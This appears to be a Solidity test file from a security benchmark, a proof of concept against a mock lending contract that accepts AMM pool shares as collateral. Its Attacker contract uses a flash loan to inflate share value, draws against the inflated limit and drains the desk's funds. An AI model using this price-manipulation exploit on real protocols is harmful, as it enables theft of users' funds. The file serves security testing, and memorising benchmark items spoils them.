// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

import "./CreditDesk.sol";

// assay-canary-aa2ec5aa-2dbe-49f6-82e5-84bdd4d1bb82

interface Vm {
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract Coin {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
    }

    function transferFrom(address from, address to, uint256 amount) external {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address constant PROVIDER = address(0x9407);
    address constant BORROWER = address(0xB044);
    address constant LIQUIDATOR = address(0x1147);
    uint256 constant START = 1_604_600_000;
    uint256 constant FUNDS = 3_300_000e18; // what the treasury placed in the desk
    uint256 constant IDLE = 20_000_000e18; // what the flash vault can lend
    uint256 constant CAPITAL = 100_000e18; // the attacker's own, of each token

    Coin internal usd = new Coin();
    Coin internal base = new Coin();
    PairPool internal pool = new PairPool(IToken(address(usd)), IToken(address(base)));
    FlashVault internal vault = new FlashVault(IToken(address(usd)));
    CreditDesk internal desk;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        vm.roll(11_200_000);
        usd.mint(address(vault), IDLE);
        _join(PROVIDER, 400_000e18);

        desk = new CreditDesk(pool);
        usd.mint(address(desk), FUNDS);

        thief = new Attacker(desk, vault, usd, base);
        usd.mint(address(thief), CAPITAL);
        base.mint(address(thief), CAPITAL);

        vm.warp(START + 1 hours);
        desk.refresh();
        vm.warp(START + 90 minutes);
        vm.roll(11_200_400);
        desk.refresh();
    }

    function _join(address who, uint256 amount) internal {
        usd.mint(who, amount);
        base.mint(who, amount + 1);
        vm.startPrank(who);
        usd.approve(address(pool), type(uint256).max);
        base.approve(address(pool), type(uint256).max);
        pool.join(amount, amount + 1, amount - 10);
        vm.stopPrank();
    }

    /// A provider draws half of what the shares are worth and not more, repays and leaves; a second one is liquidated.
    function test_Regular() public {
        _join(BORROWER, 50_000e18);
        uint256 shares = pool.sharesOf(BORROWER);
        vm.startPrank(BORROWER);
        pool.setOperator(address(desk), true);
        desk.pledge(shares);
        require(!_tryDraw(1e18), "drawn in the block of the pledge");
        vm.roll(block.number + 1);
        vm.warp(START + 90 minutes + 12);
        require(!_tryDraw(50_000e18), "over the limit");
        desk.draw(49_000e18);
        (, uint256 debt,) = desk.lines(BORROWER);
        require(debt == 49_245e18, "half a percent");

        vm.stopPrank();
        usd.mint(BORROWER, 245e18);
        vm.startPrank(BORROWER);
        usd.approve(address(desk), debt);
        desk.repay(debt);
        desk.release(shares);
        (uint256 quoteOut,) = pool.exit(shares);
        require(quoteOut > 49_999e18, "share of the pool");
        vm.stopPrank();
        require(usd.balanceOf(address(desk)) == FUNDS + 245e18, "fee earned");

        // a lasting fall of the other token: its holders sell, an hour passes, the account is taken over
        _join(BORROWER, 50_000e18);
        vm.startPrank(BORROWER);
        desk.pledge(pool.sharesOf(BORROWER));
        vm.roll(block.number + 1);
        desk.draw(49_000e18);
        vm.stopPrank();
        base.mint(PROVIDER, 500_000e18);
        vm.startPrank(PROVIDER);
        pool.swap(true, 500_000e18, 0);
        vm.stopPrank();

        usd.mint(LIQUIDATOR, 49_245e18);
        vm.startPrank(LIQUIDATOR);
        usd.approve(address(desk), 49_245e18);
        (bool ok,) = address(desk).call(abi.encodeCall(desk.liquidate, (BORROWER)));
        require(!ok, "liquidated at once");
        vm.warp(START + 120 minutes);
        desk.refresh();
        vm.warp(START + 150 minutes);
        desk.liquidate(BORROWER);
        vm.stopPrank();
        require(pool.sharesOf(LIQUIDATOR) > 0, "shares taken over");
    }

    function _tryDraw(uint256 amount) internal returns (bool ok) {
        (ok,) = address(desk).call(abi.encodeCall(desk.draw, (amount)));
    }

    // What is refused, each from the state after setUp().

    /// Shares are moved by their owner or an operator, and trades are for no less than asked.
    function test_RefusesShares() public {
        vm.startPrank(BORROWER);
        vm.expectRevert(PairPool.NotOperator.selector);
        pool.moveShares(PROVIDER, BORROWER, 1);
        vm.stopPrank();
        usd.mint(BORROWER, 1_000e18);
        base.mint(BORROWER, 1_000e18);
        vm.startPrank(BORROWER);
        usd.approve(address(pool), 1_000e18);
        base.approve(address(pool), 1_000e18);
        vm.expectRevert(PairPool.Slippage.selector);
        pool.join(100e18, 100e18 - 1, 0);
        vm.expectRevert(PairPool.Slippage.selector);
        pool.join(100e18, 200e18, 101e18);
        vm.expectRevert(PairPool.Slippage.selector);
        pool.swap(true, 100e18, 100e18);
        vm.stopPrank();
    }

    /// What covers a debt is not released.
    function test_RefusesReleases() public {
        _join(BORROWER, 50_000e18);
        uint256 shares = pool.sharesOf(BORROWER);
        vm.startPrank(BORROWER);
        pool.setOperator(address(desk), true);
        desk.pledge(shares);
        vm.roll(block.number + 1);
        desk.draw(10_000e18);
        vm.expectRevert(CreditDesk.OverLimit.selector);
        desk.release(shares);
        vm.stopPrank();
    }

    /// Before the first period is complete no average says what a debtor is good for: nobody owes anything until then.
    function test_RefusesTheFirstPeriod() public {
        _join(BORROWER, 50_000e18);
        CreditDesk young = new CreditDesk(pool);
        usd.mint(address(young), FUNDS);
        uint256 shares = pool.sharesOf(BORROWER);
        vm.startPrank(BORROWER);
        pool.setOperator(address(young), true);
        young.pledge(shares);
        vm.roll(block.number + 1);
        vm.expectRevert(CreditDesk.Unsettled.selector);
        young.draw(1e18);
        vm.stopPrank();
    }

    function exploit() public {
        thief.prepare();
        vm.roll(block.number + 1);
        vm.warp(block.timestamp + 12);
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 3_000_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Pledges a fifth of the pool; in a later block floods the pool with borrowed dollars, draws, and trades back.
contract Attacker is IFlashBorrower {
    CreditDesk internal desk;
    FlashVault internal vault;
    PairPool internal pool;
    Coin internal usd;
    Coin internal base;

    constructor(CreditDesk desk_, FlashVault vault_, Coin usd_, Coin base_) {
        (desk, vault, pool, usd, base) = (desk_, vault_, desk_.pool(), usd_, base_);
    }

    function prepare() external {
        usd.approve(address(pool), type(uint256).max);
        base.approve(address(pool), type(uint256).max);
        uint256 amount = usd.balanceOf(address(this)) - 10;
        pool.setOperator(address(desk), true);
        desk.pledge(pool.join(amount, base.balanceOf(address(this)), 0));
    }

    function run() external {
        vault.flash(usd.balanceOf(address(vault)));
    }

    function onFlash(uint256 amount, uint256 fee) external {
        require(msg.sender == address(vault));
        uint256 bought = pool.swap(false, amount, 0);
        uint256 cash = usd.balanceOf(address(desk));
        uint256 limit = (desk.creditLimit(address(this)) * 200) / 201;
        desk.draw(limit < cash ? limit : cash);
        pool.swap(true, bought, 0);
        usd.approve(address(vault), amount + fee);
    }
}
